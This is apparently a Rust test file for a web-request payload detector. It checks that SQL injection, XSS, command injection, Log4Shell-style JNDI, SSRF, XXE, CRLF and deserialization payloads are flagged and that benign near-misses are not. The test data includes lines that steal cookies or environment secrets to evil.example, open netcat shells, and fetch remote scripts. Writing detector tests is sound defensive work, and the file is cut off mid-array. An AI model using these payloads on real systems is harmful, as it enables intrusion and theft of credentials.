//! Payload analysis through its public API: classic payloads of each family in each location and
//! encoding, benign text that must stay benign (near-misses of each detector included), line
//! breaks judged by where they are, uploads and serialized state judged by their content, body
//! splitting (JSON nested deep, arrays, forms, multipart, malformed JSON), a payload at the end of
//! a 64 KB field, and a proptest that any 64 KB of bytes in any location is scanned without a
//! panic.

use proptest::prelude::*;
use refiner_core::features::payload::{scan, scan_value, Decode, Family, Location, PayloadFindings, PayloadInput, Scratch};

fn body(b: &str) -> PayloadFindings {
    scan(&PayloadInput::only(Location::Body, b), &mut Scratch::default())
}

fn value(v: &str) -> PayloadFindings {
    scan_value(v.as_bytes(), Decode::None, Location::Body, &mut Scratch::default())
}

fn confirmed(f: &PayloadFindings) -> Vec<Family> {
    Family::ALL.iter().copied().filter(|&x| f.confirmed(x) > 0).collect()
}

#[test]
fn classic_payloads_are_confirmed_as_their_family() {
    let cases: &[(Family, &str)] = &[
        (Family::Sqli, "1' OR '1'='1' -- "),
        (Family::Sqli, "1 UNION ALL SELECT NULL,NULL,version()--"),
        (Family::Sqli, "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--"),
        (Family::Sqli, "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
        (Family::Xss, "<img src=x onerror=alert(document.domain)>"),
        (Family::Xss, "\"><svg/onload=confirm(1)>"),
        (Family::Xss, "javascript:alert(1)"),
        (Family::Xss, "';alert(String.fromCharCode(88,83,83))//"),
        (Family::Command, "; cat /etc/passwd"),
        (Family::Command, "$(id)"),
        (Family::Command, "| powershell -nop -c iex(New-Object Net.WebClient).DownloadString('http://x')"),
        (Family::Traversal, "../../../../etc/passwd"),
        (Family::Traversal, "..\\..\\..\\windows\\win.ini"),
        (Family::Template, "{{7*7}}"),
        (Family::Template, "${T(java.lang.Runtime).getRuntime().exec('id')}"),
        (Family::Jndi, "${jndi:ldap://attacker.example/a}"),
        (Family::Jndi, "${${lower:j}${lower:n}${lower:d}i:rmi://x/a}"),
        (Family::Ssrf, "http://169.254.169.254/latest/meta-data/"),
        (Family::Ssrf, "gopher://127.0.0.1:25/_HELO"),
        (Family::Code, "<?php echo shell_exec($_GET['c']); ?>"),
        (Family::Code, "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
        (Family::Code, "';die(md5(31337));//"),
        (Family::Code, "{${exit()}}"),
        (Family::Code, "$x=@$f('id');"),
        (Family::Code, "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}"),
        (Family::Code, "${T(java.lang.Runtime).getRuntime().exec('id')}"),
        (Family::Code, "process.mainModule.require('child_process').execSync('id')"),
        (Family::Code, "eval(String.fromCharCode(97,108,101,114,116,40,49,41))"),
        (Family::Xss, "<img src=k onerror=prompt`x`>"),
        (Family::Xss, "<style>@im\\port 'http://evil.example/x.css';</style>"),
        (Family::Xss, "<div style=\"background:url(ja\\vasc\\ript:alert(1))\">"),
        (Family::Xss, "`+window[`al`+`ert`](1)+`"),
        (Family::Xxe, "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
        (Family::Xxe, "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]><r/>"),
        (Family::Xxe, "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></r>"),
        (Family::Crlf, "\r\nSet-Cookie: sid=attacker"),
        (Family::Crlf, "https://shop.example/\r\nLocation: https://attacker.example/"),
    ];
    for &(family, p) in cases {
        let f = value(p);
        assert_eq!(f.confirmed(family), 1, "{family:?} not confirmed in {p}: {f:?}");
    }
}

#[test]
fn encodings_are_undone_and_flagged_when_beyond_one_level() {
    let once = |q: &str| scan(&PayloadInput { path: q, ..PayloadInput::default() }, &mut Scratch::default());
    let plain = once("/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    assert!(plain.confirmed(Family::Xss) == 1 && !plain.obfuscated);
    for q in [
        "/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "/s?q=%25253Cscript%25253Ealert(1)",
        "/s?q=%u003Cscript%u003Ealert(1)",
        "/s?q=%26lt;script%26gt;alert(1)",
        "/s?q=%26%2360;script%26%2362;alert(1)",
        "/s?q=\\x3cscript\\x3ealert(1)",
    ] {
        let f = once(q);
        assert!(f.confirmed(Family::Xss) == 1 && f.obfuscated, "{q}: {f:?}");
    }
    let f = once("/download?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd");
    assert!(f.confirmed(Family::Traversal) == 1 && f.obfuscated, "{f:?}");
    let f = once("/p?id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users");
    assert_eq!(f.confirmed(Family::Sqli), 1, "{f:?}");
    let f = value("<scr\0ipt>alert(1)</script>");
    assert_eq!(f.confirmed(Family::Xss), 1, "NUL bytes are dropped");
}

#[test]
fn benign_text_that_looks_like_code_stays_unconfirmed() {
    for t in [
        "O'Brien",
        "D'Angelo",
        "Mary-Kate O'Neil-D'Souza",
        "select your size",
        "drop table tennis",
        "1=1 in the docs",
        "L'été dernier, nous sommes allés à l'île d'Oléron ; c'était « magnifique » !",
        "Er sagte: „Das ist's gewesen“ – und ging. 'Na gut', meinte sie.",
        "¿Qué tal? Dijo \"hola\" y se fue; 'vale'.",
        "anna.smith+news@example.co.uk",
        "https://www.example.org/search?q=shoes&page=2#results",
        "{\"theme\":\"dark\",\"items\":[1,2,3]}",
        "Tom & Jerry; rock 'n' roll | pop",
        "I <3 you & 2 > 1",
        "for (int i = 0; i < n; i++) { sum += a[i]; }",
        "def f(x):\n    return x * 2  # double it",
        "C:\\Users\\anna\\Documents\\report.docx",
        "Price: $5 (50% off) - limited time!",
        "see ../README.md",
    ] {
        let f = value(t);
        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
    }
}

/// Code a developer pastes into a support form: after a string of its own, code compares, joins
/// and calls where an injection breaks out, and requires packages by name. Each was confirmed
/// before `quotes` (SQLi, XSS) and the handler and `require` rules; the payloads after them show
/// what the same rules still confirm.
#[test]
fn pasted_code_stays_unconfirmed_and_the_injections_it_resembles_do_not() {
    for t in [
        "return name === 'content-type' || name === 'content-length'",
        "var link = this.get('Link') || '';",
        "renderOptions.cache = this.enabled('view cache');\nif (renderOptions.cache) {",
        "throw new FST_ERR_LISTEN_OPTIONS_INVALID('Invalid options.signal')\nthis[kState].aborted = true",
        "const onFinish = require('on-finished')",
        "require('on-finished')",
    ] {
        let f = value(t);
        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
    }
    for (p, family) in [
        ("x' || (SELECT password FROM users)--", Family::Sqli),
        ("(SELECT 'qjbqq'||(SELECT (CASE WHEN (2783=8770) THEN 1 ELSE 0 END))::text||'qzpvq')", Family::Sqli),
        ("\\' ' or 1=1--", Family::Sqli),
        ("';alert(1)//", Family::Xss),
        ("'x';top['al'+'ert'](1)//", Family::Xss),
        ("\" onfocus=alert(1) autofocus=\"", Family::Xss),
        ("\" onfocus = alert(1) x=\"", Family::Xss),
        ("require('child_process').exec('id')", Family::Code),
        ("require('http://evil.example/x.js')", Family::Code),
        // The third red team's bypasses of the first version of these rules, each run against
        // a real server or runtime: a quote inside a comment, an escaped backslash before a
        // quote (MySQL, JS), a string of the other kind, a spaced handler in an attribute,
        // Node's `node:` modules and `fs`, a local file included, an IFS expansion hugging a
        // command, a FOR loop behind 64 separators.
        ("x'-- '\n or sleep(2)#", Family::Sqli),
        ("\\'\\\\' or sleep(2)#", Family::Sqli),
        ("x' \"'x\" or sleep(2)#", Family::Sqli),
        ("t'exec master..xp_cmdshell 'nslookup www.example.com'--", Family::Sqli),
        ("\\'\\\\';fetch('//evil.example/?'+document.cookie)//", Family::Xss),
        ("\" autofocus onfocus = (alert)(document.domain) x=\"", Family::Xss),
        ("require('node:child_process').execSync('id')", Family::Code),
        ("';require('fs').readFileSync('/etc/passwd')//", Family::Code),
        ("';include('/proc/self/environ');//", Family::Code),
        ("1;cat${IFS%??}/etc/passwd", Family::Command),
        // The fourth red team's, against the parser-aware reading: a breakout after a string the
        // value opened, doubled quotes, MySQL's `--` before no blank, a CR ending a Postgres
        // comment, sinks after an own string, `let` in markup, network modules after a
        // breakout, an unset variable hugging a command.
        ("x' or name='alice'-- ", Family::Sqli),
        ("x'-'0';drop table t2-- ", Family::Sqli),
        ("x''y'/*aaaaaaaaaaaaaaaaaaaaaaaa*/union select pw from users-- ", Family::Sqli),
        ("x''y' or 2>1-- ", Family::Sqli),
        ("x'--'' or 2>1#", Family::Sqli),
        ("x'--\r or '1'>'0'--", Family::Sqli),
        ("x'-'';location='//evil.example/?'+document.cookie//", Family::Xss),
        ("\" let onmouseover=open('//evil.example') x=\"", Family::Xss),
        ("';require('http').get('http://evil.example/?'+process.env.SECRET)//", Family::Code),
        ("x;cat$u /etc/passwd", Family::Command),
        ("x'-/\\//-'';alert(1)//", Family::Xss),
    ] {
        assert!(confirmed(&value(p)).contains(&family), "{p}: {:?}", confirmed(&value(p)));
    }
    let decoys = format!("127.0.0.1\"{}\" & for /f %i in ('whoami') do nslookup %i.evil.example", "&".repeat(70));
    assert!(confirmed(&value(&decoys)).contains(&Family::Command));
}

/// Text that mentions what the new detectors look for, and data that shares their characters:
/// XML prose and documents, multi-line messages, developers' questions quoting code, JSON with
/// `$` keys, base64 and hex that start with other letters, CSS with escapes.
#[test]
fn near_misses_of_xxe_crlf_code_and_css_stay_unconfirmed() {
    for t in [
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order id=\"42\"><item sku=\"A-1\" qty=\"2\"/></order>",
        "Our API accepts XML: send <!DOCTYPE note SYSTEM \"note.dtd\"> if you want validation.",
        "How do I stop libxml from resolving <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> in user uploads?",
        "<!DOCTYPE html><html lang=\"en\"><head><title>x</title></head></html>",
        "Hi team,\r\nNote: bring ID\r\nLocation: https://maps.example/office\r\nThanks!",
        "2024-05-01 12:00:01 INFO started\n2024-05-01 12:00:02 WARN Retry-After: 30\nDone",
        "Headers I get back:\nContent-Type: text/html\nSet-Cookie: sid=abc; HttpOnly",
        "In PHP, $_SERVER['HTTP_HOST'] can be spoofed; use md5($x) carefully and call exit(); after a redirect.",
        "Why does Runtime.getRuntime().exec(\"ls\") hang? I read about java.lang.ProcessBuilder too.",
        "process.mainModule is deprecated; use require.main instead of require('child_process')",
        "{\"$set\": {\"price\": \"$5 (USD)\", \"$inc\": {\"qty\": 1}}, \"$ref\": \"#/defs/a\"}",
        "rOmAbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
        "TzoyNTY0 is my ticket",
        "acedemic0005 and ace0005",
        "H4sIAAAAAAAAAKtWKkktLlGyUlAqzi8tUkjMSy1WqAUAr9Jv5hcAAAA=",
        "<style>.md\\:flex{display:flex} q::before{content:\"\\201C\"} html{scroll-behavior:smooth}</style>",
        "Use `alert()` sparingly, and ${window.location.origin} for the base URL",
        "anna.smith@company.com@outlook.com",
        "Regular expression(s) at 10:30 a.m.",
    ] {
        let f = value(t);
        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
    }
}

/// The same multi-line text is a payload where a newline never belongs and text in a body.
#[test]
fn line_breaks_are_judged_by_where_they_are() {
    let note = "Thanks%0D%0ANote:%20bring%20ID";
    let form = body(&format!("name=anna&comment={note}"));
    assert_eq!(form.confirmed(Family::Crlf), 0, "a form's textarea: {form:?}");
    let path = scan(&PayloadInput::only(Location::Path, &format!("/a/{note}")), &mut Scratch::default());
    assert_eq!(path.confirmed(Family::Crlf), 1, "a path segment: {path:?}");
    let query = scan(&PayloadInput::only(Location::Query, &format!("/a?lang={note}")), &mut Scratch::default());
    assert_eq!((query.confirmed(Family::Crlf), query.suspicious(Family::Crlf)), (0, 1), "a query's text line: {query:?}");
    let split = scan(&PayloadInput::only(Location::Query, "/r?to=%2Fhome%0D%0ASet-Cookie:%20sid%3Devil"), &mut Scratch::default());
    assert!(split.confirmed_in(Family::Crlf, Location::Query), "{split:?}");
    let json = body("{\"returnUrl\":\"/home\\r\\nSet-Cookie: sid=evil\",\"note\":\"Hi\\nNote: x\"}");
    assert_eq!(json.confirmed(Family::Crlf), 1, "a JSON redirect target: {json:?}");
    let encoded = body("{\"lang\":\"en%0d%0aX-Injected: 1\"}");
    assert!(encoded.confirmed(Family::Crlf) == 1 && encoded.obfuscated, "encoded breaks in a body: {encoded:?}");
}

#[test]
fn uploads_and_serialized_state_are_judged_by_their_content() {
    let svg = |doc: &str| format!("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{doc}\r\n--b--\r\n");
    let evil = body(&svg("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg>&x;</svg>"));
    assert_eq!(evil.confirmed(Family::Xxe), 1, "{evil:?}");
    let illustrator = body(&svg("<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [<!ENTITY ns_ai \"http://ns.adobe.com/AdobeIllustrator/10.0/\">]><svg xmlns:i=\"&ns_ai;\"/>"));
    assert!(!illustrator.any_confirmed() && illustrator.suspicious(Family::Xxe) == 1, "{illustrator:?}");
    // A JSF view state without encryption is a Java object stream: suspicious, not confirmed.
    let state = body("javax.faces.ViewState=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA%3D%3D");
    assert!(!state.any_confirmed() && state.suspicious(Family::Code) == 1, "{state:?}");
    let cookie = scan(&PayloadInput::only(Location::Cookie, "ci_session=a%3A1%3A%7Bs%3A2%3A%22id%22%3Bs%3A3%3A%22abc%22%3B%7D"), &mut Scratch::default());
    assert!(!cookie.any_confirmed() && cookie.suspicious(Family::Code) == 1, "a serialized array: {cookie:?}");
    let object = scan(&PayloadInput::only(Location::Cookie, "data=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D"), &mut Scratch::default());
    assert!(object.confirmed_in(Family::Code, Location::Cookie), "{object:?}");
}

/// A SQL query written as a question in a support form is a gray zone: it is SQL, and it would
/// break a query it were pasted into, but it is not an injection. libinjection fingerprints
/// injected fragments (a string or number end, then SQL), and a whole statement fingerprints as
/// what it starts with, a bare word (`nnEok` here), which matches nothing. The quote window
/// starts at the quote before `OR`, where a breakout would be, and `' OR 1=1 safely?` does not
/// match either: the words after the tautology are not SQL. So both stay unconfirmed, and so
/// would a query pasted on its own: this module reports injections, not SQL.
#[test]
fn sql_written_as_a_question_is_not_an_injection() {
    for q in [
        "Why does SELECT * FROM orders WHERE id = 5 return nothing?",
        "How do I write SELECT name FROM users WHERE name = 'bob' OR 1=1 safely?",
        "SELECT id, name FROM customers ORDER BY name",
    ] {
        let f = value(q);
        assert!(!f.any_confirmed(), "{q}: {f:?}");
    }
}

#[test]
fn each_location_is_split_and_marked() {
    let input = PayloadInput {
        path: "/files/..%2F..%2F..%2Fetc%2Fpasswd?id=1%27%20OR%20%271%27%3D%271&x=ok",
        body: "{\"user\":{\"bio\":\"<script>alert(1)</script>\"}}",
        headers: "Mozilla/5.0\x1f${jndi:ldap://x/a}",
        cookies: "session=abc; pref=http%3A%2F%2F127.0.0.1%2Fadmin",
    };
    let f = scan(&input, &mut Scratch::default());
    assert!(f.confirmed_in(Family::Traversal, Location::Path), "{f:?}");
    assert!(f.confirmed_in(Family::Sqli, Location::Query), "{f:?}");
    assert!(f.confirmed_in(Family::Xss, Location::Body), "{f:?}");
    assert!(f.confirmed_in(Family::Jndi, Location::Header), "{f:?}");
    assert!(f.confirmed_in(Family::Ssrf, Location::Cookie), "{f:?}");
    assert_eq!(f.confirmed.iter().map(|&n| u32::from(n)).sum::<u32>(), 5, "{f:?}");
}

#[test]
fn body_fields_are_parsed_json_forms_and_multipart() {
    let nested = format!("{}\"{{{{7*7}}}}\"{}", "{\"a\":".repeat(20), "}".repeat(20));
    assert_eq!(body(&nested).confirmed(Family::Template), 1, "JSON nested 20 deep");
    assert_eq!(body("[\"ok\",[\"fine\",[\"; cat /etc/passwd\"]]]").confirmed(Family::Command), 1, "arrays");
    let form = body("name=anna&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&agree=on");
    assert_eq!(form.confirmed(Family::Xss), 1, "urlencoded form: {form:?}");
    let multipart = "--b0undary\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"../../../var/www/shell.php\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>\r\n--b0undary--\r\n";
    let m = body(multipart);
    assert_eq!((m.confirmed(Family::Traversal), m.confirmed(Family::Code)), (1, 1), "multipart: {m:?}");
    let f = body("{\"a\": \"b\", \"c\": [1, 2, \"<svg onload=alert(1)>\"");
    assert_eq!(f.confirmed(Family::Xss), 1, "malformed JSON is still scanned, as one value: {f:?}");
    assert_eq!(body("plain text\x1f{\"q\":\"${jndi:dns://x}\"}\x1fmore").confirmed(Family::Jndi), 1);
}

#[test]
fn a_payload_at_the_end_of_a_64_kb_field_is_found() {
    let filler = "Lorem ipsum dolor sit amet, consectetur adipiscing elit. ".repeat(64 * 1024 / 57);
    for (family, payload) in [
        (Family::Xss, "<script>alert(1)</script>"),
        (Family::Sqli, "' UNION SELECT password FROM users--"),
        // After prose, only a command no one types in prose counts (`; cat /etc/passwd` there is
        // suspicious: a sentence can quote it).
        (Family::Command, "; wget http://x.example/s.sh -O /tmp/s"),
        (Family::Jndi, "${jndi:ldap://x/a}"),
        (Family::Template, "{{7*7}}"),
    ] {
        let field = format!("{filler}{payload}");
        assert!(field.len() >= 64 * 1024 - 100);
        let f = body(&field);
        assert_eq!(f.confirmed(family), 1, "{family:?} at the end of {} bytes", field.len());
        let in_json = body(&format!("{{\"note\":{}}}", serde_json::to_string(&field).unwrap()));
        assert_eq!(in_json.confirmed(family), 1, "{family:?} at the end of a JSON string");
    }
}

#[test]
fn scratch_is_reused_without_carrying_results_over() {
    let mut scratch = Scratch::default();
    let bad = scan(&PayloadInput { body: "<script>alert(1)</script>", ..PayloadInput::default() }, &mut scratch);
    assert!(bad.any_confirmed());
    let good = scan(&PayloadInput { body: "hello", ..PayloadInput::default() }, &mut scratch);
    assert!(!good.any_confirmed() && !good.obfuscated);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// Any 64 KB of bytes (made valid UTF-8, as the JS layer's strings are) in any location.
    #[test]
    fn any_64_kb_is_scanned_without_panic(
        bytes in prop::collection::vec(any::<u8>(), 64 * 1024),
        pieces in prop::collection::vec(prop::sample::select(vec![
            "'", "\"", "<", ">", "${", "{{", "}}", "%", "%25", "&#", "\\x", "\\u", "..", "/", ";", "|", "`", "$(", "/*", "*/",
            "\x1f", "--", "=", "&", "://", "[", "]", "{", "}", "\\", "<?", "<script", " on", "jndi:", "\0", "\n", "%c0",
            "<!ENTITY", "<!DOCTYPE x [", "\r\n", "Set-Cookie: a=b", "O:8:", "%{", "rO0AB", "@", "#", "<style>", "\u{560A}",
        ]), 0..2000),
        location in prop::sample::select(Location::ALL.to_vec()),
    ) {
        let mut text = String::from_utf8_lossy(&bytes).into_owned();
        for (i, p) in pieces.iter().enumerate() {
            let at = (i * 7919) % text.len().max(1);
            let at = (0..=at).rev().find(|&k| text.is_char_boundary(k)).unwrap_or(0);
            text.insert_str(at, p);
        }
        let f = scan(&PayloadInput::only(location, &text), &mut Scratch::default());
        // A request target that starts with `#` is a fragment alone: no value to scan.
        let fragment_only = matches!(location, Location::Path | Location::Query) && text.starts_with('#');
        prop_assert!(f.values > 0 || text.is_empty() || fragment_only);
    }
}

/// The red team's ordinary requests that were confirmed as payloads, each next to a real payload
/// of the same family that must stay confirmed.
#[test]
fn red_team_near_misses_stay_unconfirmed_and_their_families_real_payloads_do_not() {
    let svg = |s: &str| {
        const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::from("data:image/svg+xml;base64,");
        for c in s.as_bytes().chunks(3) {
            let n = c.iter().enumerate().fold(0u32, |a, (i, &b)| a | u32::from(b) << (16 - 8 * i));
            for i in 0..4 {
                out.push(if i <= c.len() { T[(n >> (18 - 6 * i) & 63) as usize] as char } else { '=' });
            }
        }
        out
    };
    let avatar = svg("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\"/></svg>");
    let near_misses: &[(Family, &str)] = &[
        (Family::Ssrf, "http://localhost:3000/callback"),
        (Family::Ssrf, "http://127.0.0.1:8080/cb"),
        (Family::Ssrf, "http://192.168.1.20:8080/hook"),
        (Family::Ssrf, "http://localhost:3000/webhooks/stripe"),
        (Family::Command, "## Steps\n1. run `npm i`\n2. `cat package.json | grep version`\n```sh\nrm -rf node_modules && npm ci\n```\n> works on my machine :)"),
        (Family::Command, "I tried `curl -s https://api.example.com/v1/me | jq .` and then ; ls -la ~/.config and nothing"),
        (Family::Command, "sudo apt update; cat /etc/os-release"),
        (Family::Command, "Ran: sudo systemctl restart nginx; cat /var/log/nginx/error.log | tail -n 50"),
        (Family::Code, "Should we use <?php echo htmlspecialchars($name); ?> here instead of echo $_GET[\"name\"]?"),
        (Family::Code, "<?php echo $name; ?>"),
        (Family::Traversal, "../shared/config/etc/passwd.example"),
        (Family::Traversal, "src/../README.md"),
        (Family::Xss, &avatar),
    ];
    for &(family, t) in near_misses {
        let f = value(t);
        assert_eq!(f.confirmed(family), 0, "{family:?} confirmed in {t}: {f:?}");
        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
    }
    let oauth = scan(&PayloadInput { path: "/oauth/authorize?client_id=abc&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback", ..Default::default() }, &mut Scratch::default());
    assert!(!oauth.any_confirmed() && oauth.suspicious(Family::Ssrf) == 1, "{oauth:?}");
    let github = body(r#"{"commits":[{"message":"move config","modified":["../shared/config/etc/passwd.example","src/../README.md"]}]}"#);
    assert!(!github.any_confirmed(), "{github:?}");

    let scripted = svg("<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\"/><script>alert(document.domain)</script></svg>");
    let kept: &[(Family, &str)] = &[
        (Family::Ssrf, "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        (Family::Ssrf, "http://metadata.google.internal/computeMetadata/v1beta1/"),
        (Family::Ssrf, "http://[fd00:ec2::254]/latest/meta-data/"),
        (Family::Ssrf, "http://100.100.100.200/latest/meta-data/"),
        (Family::Ssrf, "http://2130706433/"),
        (Family::Ssrf, "http://0x7f.1/"),
        (Family::Ssrf, "http://127.1/"),
        (Family::Ssrf, "http://[::ffff:127.0.0.1]/"),
        (Family::Ssrf, "http://127.0.0.1.nip.io/"),
        (Family::Ssrf, "http://good.example@127.0.0.1/"),
        (Family::Ssrf, "http://127.0.0.1:6379/"),
        (Family::Ssrf, "http://localhost:8080/jmx-console"),
        (Family::Ssrf, "http://127.0.0.1/%61dmin"),
        (Family::Ssrf, "dict://127.0.0.1:11211/stats"),
        (Family::Ssrf, "file:///etc/passwd"),
        (Family::Ssrf, "jar:http://127.0.0.1!/"),
        (Family::Command, "127.0.0.1; cat /etc/passwd"),
        (Family::Command, "a);id"),
        (Family::Command, "www.example.com;cat /etc/${a}passwd"),
        (Family::Command, "() { :;}; /bin/bash -c \"curl http://x.example/s.txt\""),
        (Family::Command, "; nc -lvvp 4444 -e /bin/sh;"),
        (Family::Code, "<?php system($_GET['cmd']); ?>"),
        (Family::Code, "<?php include('http://attacker.example/shell.txt'); ?>"),
        (Family::Code, "<?= `id` ?>"),
        (Family::Traversal, "../../etc/passwd"),
        (Family::Traversal, "../WEB-INF/web.xml"),
        (Family::Traversal, "file=../.env"),
        (Family::Xss, &scripted),
        (Family::Xss, "data:image/svg+xml,<svg onload=alert(1)>"),
    ];
    for &(family, p) in kept {
        let f = value(p);
        assert_eq!(f.confirmed(family), 1, "{family:?} not confirmed in {p}: {f:?}");
    }
}

#[test]
fn path_payloads_spanning_segments_are_confirmed_and_rest_paths_are_not() {
    let path = |p: &str| scan(&PayloadInput::only(Location::Path, p), &mut Scratch::default());
    for (family, p) in [
        (Family::Xss, "/search/<svg/onload=alert(1)>"),
        (Family::Xss, "/p/<img/src/onerror=alert(1)>"),
        (Family::Xss, "/go/javascript://%0aalert(1)"),
        (Family::Sqli, "/products/1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users--"),
        (Family::Sqli, "/search/1'%20union%20select%201,2%20from%20users--/x"),
        (Family::Traversal, "/download/..%2f..%2fetc/passwd"),
    ] {
        let f = path(p);
        assert_eq!(f.confirmed(family), 1, "{family:?} in {p}: {f:?}");
    }
    for p in ["/api/v2/users/42/orders?page=2", "/2024/05/12/why-we-moved-to-rust/", "/assets/app.1.2.3..min.js", "/docs/Web/API/Element/click_event", "/wiki/C%2B%2B/history", "/u/anna%20lee/posts/7"] {
        assert!(!path(p).any_confirmed(), "{p}");
    }
}

#[test]
fn multipart_parts_busboy_parses_are_scanned() {
    let sql = "1' OR '1'='1' -- ";
    for m in [
        format!("This is a multi-part message in MIME format.\r\n--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{sql}\r\n--XyZ--\r\n"),
        format!("--XyZ\nContent-Disposition: form-data; name=q\n\n{sql}\n--XyZ--\n"),
        format!("--XyZ\r\nCONTENT-DISPOSITION: FORM-DATA; NAME=\"q\"\r\n\r\n{sql}\r\n--XyZ--\r\n"),
        format!("--a b c\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{sql}\r\n--a b c--\r\n"),
    ] {
        let f = body(&m);
        assert_eq!(f.confirmed(Family::Sqli), 1, "{m:?}: {f:?}");
    }
    let f = body("--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E.txt\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n");
    assert_eq!(f.confirmed(Family::Xss), 1, "{f:?}");
}

/// A request as the decision layer holds it: the target, header pairs and body fields.
fn request(path: &str, headers: &[(&str, &str)], fields: &[&str]) -> PayloadFindings {
    let region: Vec<String> = headers.iter().map(|(n, v)| format!("{n}\0{v}")).collect();
    let region = region.join("\0");
    let body = fields.join("\0");
    let texts = refiner_core::decision::Texts {
        path,
        header_region: &region,
        header_pairs: headers.len(),
        body_region: &body,
        body_fields: fields.len(),
        ..Default::default()
    };
    refiner_core::features::payload::scan_texts(&texts, &texts.headers(), &mut Scratch::default())
}

const CHROME_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";

#[test]
fn second_red_team_classes_are_confirmed_where_they_arrive() {
    let form = |v: &str| request("/contact", &[], &[&format!("p={}", v.replace('\n', "%0A").replace('\'', "%27"))]);
    let json = |v: &str| request("/api/x", &[], &[v]);
    let query = |q: &str| request(&format!("/search?q={q}"), &[], &[]);
    let ua = |v: &str| request("/", &[("user-agent", &format!("{CHROME_UA} {v}"))], &[]);
    let cases: Vec<(Family, &str, PayloadFindings)> = vec![
        (Family::Code, "pickle form", form("cos\nsystem\n(S'id'\ntR.")),
        (Family::Code, "$type value", json("System.Windows.Data.ObjectDataProvider, PresentationFramework")),
        (Family::Code, "$type raw json", body(r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}"#)),
        (Family::Code, "WindowsIdentity", json("System.Security.Principal.WindowsIdentity, mscorlib")),
        (Family::Code, "fastjson", body(r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}"#)),
        (Family::Code, "yaml", json("!!python/object/apply:os.system [\"id\"]")),
        (Family::Code, "php array", form("a:2:{i:0;O:11:\"Monolog\\Handler\":0:{}i:1;s:1:\"x\";}")),
        (Family::Code, "__import__ in ua", ua("__import__('os').system('id')")),
        (Family::Xss, "concat", query("top%5B%27al%27%2B%27ert%27%5D(1)")),
        (Family::Xss, "concat window", json("window['ale'+'rt'](document.cookie)")),
        (Family::Xss, "atob", json("self[atob('YWxlcnQ=')](1)")),
        (Family::Xss, "(alert)(1)", query("(alert)(1)")),
        (Family::Xss, "constructor", json("[].constructor.constructor('alert(1)')()")),
        (Family::Xss, "dquote json", json("\"-alert(1)-\"")),
        (Family::Xss, "backtick", json("`+alert(1)+`")),
        (Family::Crlf, "unicode json", json("%E5%98%8A%E5%98%8DSet-Cookie:%20x=1")),
        (Family::Crlf, "unicode form", request("/c", &[], &["to=%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"])),
        (Family::Crlf, "unicode json key", body("{\"\u{560A}\u{560D}Set-Cookie: x=1\":1}")),
        (Family::Crlf, "ua", ua("%0d%0aSet-Cookie:%20sessionid=attacker")),
        (Family::Xxe, "ua", ua("<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>")),
        (Family::Xxe, "referer query", request("/", &[("referer", "https://shop.example/?q=%3C!DOCTYPE%20foo%20%5B%3C!ENTITY%20xxe%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Cfoo%3E%26xxe%3B%3C%2Ffoo%3E")], &[])),
